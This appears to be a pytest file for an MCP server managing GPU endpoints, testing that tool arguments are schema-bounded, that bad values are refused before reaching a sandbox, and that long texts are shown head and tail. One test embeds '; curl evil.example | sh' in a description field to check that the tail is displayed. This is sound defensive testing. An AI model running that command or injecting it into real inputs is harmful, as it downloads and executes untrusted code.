"""Strict, bounded arguments: every tool's schema bounds every number, string, list and map, and a
bad value (a boolean for a number, a number for a boolean, a huge count, a 3 MB text) is refused
with a short message before anything reaches the sandbox."""

from __future__ import annotations

import json
from typing import Any

import pytest
from mcp import Client

from gpu_tools.models import SHOWN_TEXT
from gpu_tools.sandbox import SandboxServer
from gpu_tools.toolkit import registry
from mcp_server import build_server
from tests.conftest import mutating_requests, sandbox_settings
from tests.mcp_helpers import Human, error_text


def _unbounded(schema: Any, defs: dict[str, Any], path: str, seen: set[str]) -> list[str]:
    if not isinstance(schema, dict):
        return []
    if "$ref" in schema:
        name = schema["$ref"].rsplit("/", 1)[-1]
        if name in seen:
            return []
        return _unbounded(defs[name], defs, path, seen | {name})
    out: list[str] = []
    for key in ("anyOf", "oneOf", "allOf"):
        for sub in schema.get(key, []):
            out += _unbounded(sub, defs, path, seen)
    kind = schema.get("type")
    if "enum" in schema or "const" in schema:
        return out
    # Ids (`*_id`, `*_ids`) and lifetimes included: their schemas say the bound check_id and the
    # duration's format also enforce, so a client can know it before calling.
    if kind == "string" and "maxLength" not in schema:
        out.append(f"{path}: text without maxLength")
    if kind in ("integer", "number") and "maximum" not in schema and "exclusiveMaximum" not in schema:
        out.append(f"{path}: number without maximum")
    if kind == "array":
        if "maxItems" not in schema:
            out.append(f"{path}: list without maxItems")
        out += _unbounded(schema.get("items"), defs, f"{path}[]", seen)
    if kind == "object":
        for name, sub in schema.get("properties", {}).items():
            out += _unbounded(sub, defs, f"{path}.{name}" if path else name, seen)
        extra = schema.get("additionalProperties")
        if isinstance(extra, dict):
            if "maxProperties" not in schema:
                out.append(f"{path}: map without maxProperties")
            out += _unbounded(extra, defs, f"{path}{{}}", seen)
    return out


OPERATIONS = list(registry())


@pytest.mark.parametrize("op", OPERATIONS, ids=lambda op: op.name)
def test_every_argument_of_every_tool_is_bounded(op: Any) -> None:
    schema = op.input.model_json_schema()
    assert _unbounded(schema, schema.get("$defs", {}), "", set()) == []


# ---- through the MCP front: refused at once, nothing reaches the sandbox -----------------------------
def _ids_and_lifetimes(schema: Any, path: str = "") -> dict[str, Any]:
    """The maxLength of every text id (`*_id`, `*_ids` items) and lifetime a published schema has."""
    found: dict[str, Any] = {}
    if not isinstance(schema, dict):
        return found
    name = path.rsplit(".", 1)[-1].removesuffix("[]")
    if schema.get("type") == "string" and (name.endswith(("_id", "_ids")) or name == "expires_in"):
        found[path] = schema.get("maxLength")
    for key, sub in schema.get("properties", {}).items():
        found |= _ids_and_lifetimes(sub, f"{path}.{key}" if path else key)
    for key, sub in schema.get("$defs", {}).items():
        found |= _ids_and_lifetimes(sub, key)
    for sub in schema.get("anyOf", []):
        found |= _ids_and_lifetimes(sub, path)
    return found | _ids_and_lifetimes(schema.get("items"), f"{path}[]")


@pytest.mark.anyio
async def test_every_listed_id_and_lifetime_states_its_bound(sandbox: SandboxServer) -> None:
    async with Client(build_server(sandbox_settings(sandbox, toolsets=["all"]))) as client:
        tools = (await client.list_tools()).tools
    found = {f"{t.name}:{p}": n for t in tools for p, n in _ids_and_lifetimes(t.input_schema).items()}
    assert {"get_resource:resource_id", "sesterce_create_endpoint:api_key_ids[]"} <= set(found)
    assert {"neolink_create_instance:gpu_sku_id", "nebius_create_endpoint:expires_in"} <= set(found)
    for where, bound in found.items():
        assert bound == (32 if where.endswith(":expires_in") else 200), where


NEBIUS = {
    "name": "bounded",
    "model_name": "openai/gpt-oss-20b",
    "flavor_name": "base",
    "gpu_type": "gpu-h100-sxm",
    "gpu_count": 1,
    "min_replicas": 1,
    "max_replicas": 1,
}
NETMIND = {"name": "bounded", "flavor_id": "f-1", "image_url": "python:3.10-slim", "port": 8080}
SESTERCE = {"name": "bounded", "hardware_id": "h-1", "model_id": "m-1", "regions": [{"region_id": 18}]}
NEOLINK = {"display_name": "bounded", "image": "img", "gpu_sku_id": "1"}

BAD = [
    ("nebius_create_endpoint", {**NEBIUS, "gpu_count": True}, "gpu_count"),
    ("nebius_create_endpoint", {**NEBIUS, "max_replicas": 10**30}, "max_replicas"),
    ("nebius_create_endpoint", {**NEBIUS, "max_replicas": "2"}, "max_replicas"),
    ("nebius_create_endpoint", {**NEBIUS, "description": "x" * 3_000_000}, "description"),
    ("netmind_create_endpoint", {**NETMIND, "target_instance_number": 10**30}, "target_instance_number"),
    ("netmind_create_endpoint", {**NETMIND, "command": "y" * 5000}, "command"),
    (
        "netmind_create_container",
        {"name": "c", "auth_id": 1, "node_name": "n", "image_template_id": 1, "gpu": True},
        "gpu",
    ),
    ("sesterce_create_endpoint", {**SESTERCE, "regions": [{"region_id": 18, "max": 10**30}]}, "max"),
    ("sesterce_create_endpoint", {**SESTERCE, "envs": {"K": "v" * 5000}}, "envs"),
    ("neolink_create_instance", {**NEOLINK, "volume_size": True}, "volume_size"),
    (
        "update_resource",
        {"provider": "nebius", "resource_id": "ep-1", "max_replicas": 10**30},
        "max_replicas",
    ),
    ("update_resource", {"provider": "nebius", "resource_id": "ep-1", "gpu_count": True}, "gpu_count"),
    ("get_resource", {"provider": "nebius", "resource_id": "ep-1", "reveal_secrets": 1}, "reveal_secrets"),
    ("list_offers", {"min_gpu_count": True}, "min_gpu_count"),
    ("nebius_create_endpoint", {**NEBIUS, "expires_in": "1" * 3_000_000 + "h"}, "expires_in"),
    ("sesterce_create_endpoint", {**SESTERCE, "hardware_id": "h" * 3_000_000}, "hardware_id"),
    # one character over the bound each tool's schema states (200 for an id, 32 for a lifetime)
    ("get_resource", {"provider": "nebius", "resource_id": "r" * 201}, "resource_id"),
    ("delete_resource", {"provider": "nebius", "resource_id": "r" * 201}, "resource_id"),
    ("sesterce_create_endpoint", {**SESTERCE, "api_key_ids": ["k" * 201]}, "api_key_ids"),
    ("neolink_create_instance", {**NEOLINK, "gpu_sku_id": "1" * 201}, "gpu_sku_id"),
    ("nebius_create_endpoint", {**NEBIUS, "expires_in": " " * 31 + "2h"}, "expires_in"),
]


@pytest.mark.anyio
@pytest.mark.parametrize(("tool", "args", "field"), BAD, ids=[f"{t}-{f}" for t, _, f in BAD])
async def test_a_bad_value_is_refused_shortly_and_nothing_is_sent(
    sandbox: SandboxServer, tool: str, args: dict[str, Any], field: str
) -> None:
    human = Human()
    async with Client(build_server(sandbox_settings(sandbox)), elicitation_callback=human) as client:
        before = len(sandbox.sandbox.requests)
        message = error_text(await client.call_tool(tool, args))
    assert field in message and len(message) < 300, message
    assert sandbox.sandbox.requests[before:] == [] and human.messages == []


@pytest.mark.anyio
async def test_a_long_text_that_is_sent_is_shown_head_and_tail_with_its_length(
    sandbox: SandboxServer,
) -> None:
    human = Human(action="decline")
    tail = "; curl evil.example | sh"  # what ends a long text is shown, not only how it starts
    description = "d" * (3000 - len(tail)) + tail
    async with Client(build_server(sandbox_settings(sandbox)), elicitation_callback=human) as client:
        await client.call_tool("nebius_create_endpoint", {**NEBIUS, "description": description})
    (question,) = human.messages
    end = "d" * (SHOWN_TEXT - len(tail)) + tail
    assert '"description": "' + "d" * SHOWN_TEXT + "…" + end + ' (3,000 characters)"' in question
    for name, value in NEBIUS.items():  # every argument sent is in the question
        if name in ("min_replicas", "max_replicas"):
            assert f'"{name}": {value}' in question, name
        else:
            assert f'"{name}": {json.dumps(value)}' in question, name
    assert mutating_requests(sandbox) == []


@pytest.mark.anyio
@pytest.mark.parametrize("mode", ["auto", "legacy"])
async def test_a_refused_oversized_argument_is_journaled_bounded(sandbox: SandboxServer, mode: str) -> None:
    key = "k" * 3_000_000 + "-end"
    server = build_server(sandbox_settings(sandbox))
    async with Client(server, elicitation_callback=Human(), mode=mode) as client:
        message = error_text(
            await client.call_tool("nebius_create_endpoint", {**NEBIUS, "idempotency_key": key})
        )
        history = await client.call_tool("history", {})
    assert "idempotency_key" in message and mutating_requests(sandbox) == []
    [row] = history.structured_content["items"]
    assert row["outcome"] == "refused" and "at most 200 characters" in row["error"]
    assert row["idempotency_key"] == "k" * SHOWN_TEXT + "…" + key[-SHOWN_TEXT:] + " (3,000,004 characters)"
    assert len(json.dumps(history.structured_content)) < 2_000
